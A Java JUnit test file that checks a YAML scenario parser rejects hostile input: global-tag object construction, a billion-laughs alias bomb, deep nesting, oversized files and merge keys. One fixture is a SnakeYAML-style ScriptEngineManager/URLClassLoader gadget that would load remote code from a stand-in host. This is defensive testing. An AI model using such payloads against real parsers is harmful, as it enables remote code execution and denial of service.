package dev.smtpmock.scenario;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile YAML fails fast with an {@link InvalidScenarioException}: no tag builds an object, and no
 * input exhausts memory, stack or time (SPEC 2, CONVENTIONS 9).
 */
class YamlSafetyTest {
  private static final Duration FAST = Duration.ofSeconds(5);

  /** Set when anything initializes {@link Tripwire} on behalf of a scenario. */
  static volatile boolean tripped;

  static final class Tripwire {
    static {
      tripped = true;
    }
  }

  private static List<String> problems(String yaml) {
    InvalidScenarioException e =
        assertTimeoutPreemptively(
            FAST,
            () ->
                catchThrowableOfType(
                    InvalidScenarioException.class, () -> Scenario.parse(yaml, "evil.yaml")));
    assertThat(e).as("loading should fail").isNotNull();
    return e.problems().stream().map(ScenarioProblem::toString).toList();
  }

  @Test
  void aGlobalTagIsAnErrorAndConstructsNothing() {
    assertThat(
            problems(
                "scenario: !!dev.smtpmock.scenario.YamlSafetyTest$Tripwire {}\n"
                    + "description: !!javax.script.ScriptEngineManager"
                    + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.test/\"]]]]\n"))
        .containsExactly(
            "evil.yaml:1:11: error: Global tag is not allowed:"
                + " tag:yaml.org,2002:dev.smtpmock.scenario.YamlSafetyTest$Tripwire");
    assertThat(tripped).isFalse();
  }

  @Test
  void aLocalOrNonDataTagIsAnError() {
    assertThat(problems("scenario: !thing x\ndescription: !!binary aGk=\n"))
        .containsExactly(
            "evil.yaml:1:11: error: YAML tag '!thing' is not allowed: a scenario is plain data",
            "evil.yaml:2:14: error: YAML tag '!!binary' is not allowed: a scenario is plain data");
  }

  @Test
  void aBillionLaughsAliasBombFailsFast() {
    StringBuilder yaml = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      String previous = "*" + (char) (c - 1);
      yaml.append(c).append(": &").append(c).append(" [");
      yaml.append(String.join(", ", Collections.nCopies(9, previous))).append("]\n");
    }
    assertThat(problems(yaml.toString()))
        .containsExactly(
            "evil.yaml: error: Number of aliases for non-scalar nodes exceeds the specified"
                + " max=50 — a scenario allows at most 50 aliases of lists or mappings and 20"
                + " levels of nesting");
  }

  @Test
  void tenThousandLevelsOfNestingFailFast() {
    assertThat(problems("rules: " + "[".repeat(10_000) + "]".repeat(10_000)))
        .containsExactly(
            "evil.yaml: error: Nesting Depth exceeded max 20 — a scenario allows at most 50"
                + " aliases of lists or mappings and 20 levels of nesting");
  }

  @Test
  void aHundredMegabyteStringFailsFast() {
    assertThat(problems("description: " + "x".repeat(100_000_000)))
        .containsExactly(
            "evil.yaml: error: the document is larger than 1048576 characters (1 MB); a scenario"
                + " file is never that big");
  }

  @Test
  void aHundredMegabyteFileFailsFastWithoutBeingReadWhole(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("huge.yaml");
    byte[] comment = new byte[1 << 20];
    Arrays.fill(comment, (byte) '#');
    try (OutputStream out = Files.newOutputStream(file)) {
      for (int i = 0; i < 100; i++) {
        out.write(comment);
      }
    }
    InvalidScenarioException e =
        assertTimeoutPreemptively(
            FAST,
            () -> catchThrowableOfType(InvalidScenarioException.class, () -> Scenario.load(file)));
    assertThat(e.problems())
        .extracting(ScenarioProblem::toString)
        .containsExactly(
            file
                + ": error: the document is larger than 1048576 characters (1 MB); a scenario"
                + " file is never that big");
  }

  @Test
  void aControlCharacterIsReportedAtItsPosition() {
    assertThat(problems("scenario: ok\ndescription: bad \u0000 byte\n"))
        .containsExactly("evil.yaml:2:18: error: character U+0000 is not allowed in YAML");
  }

  @Test
  void aMergeKeyIsRefusedRatherThanExpanded() {
    assertThat(problems("defaults: &d {when: rcpt}\nrules:\n  - <<: *d\n    reply: 250 Ok\n"))
        .containsExactly(
            "evil.yaml:1:1: error: unknown key 'defaults' — the keys of a scenario are: scenario,"
                + " description, server, extends, rules",
            "evil.yaml:3:5: error: YAML merge keys (<<) are not supported: write the keys out");
  }

  @Test
  void aliasesOfPlainValuesStillWork() {
    Scenario s =
        Scenario.parse(
            "rules:\n  - {when: rcpt, reply: &r 451 4.3.0 Later}\n  - {when: mail, reply: *r}\n",
            "ok.yaml");
    assertThat(s.rules()).extracting(r -> r.reply().code()).containsExactly(451, 451);
  }
}
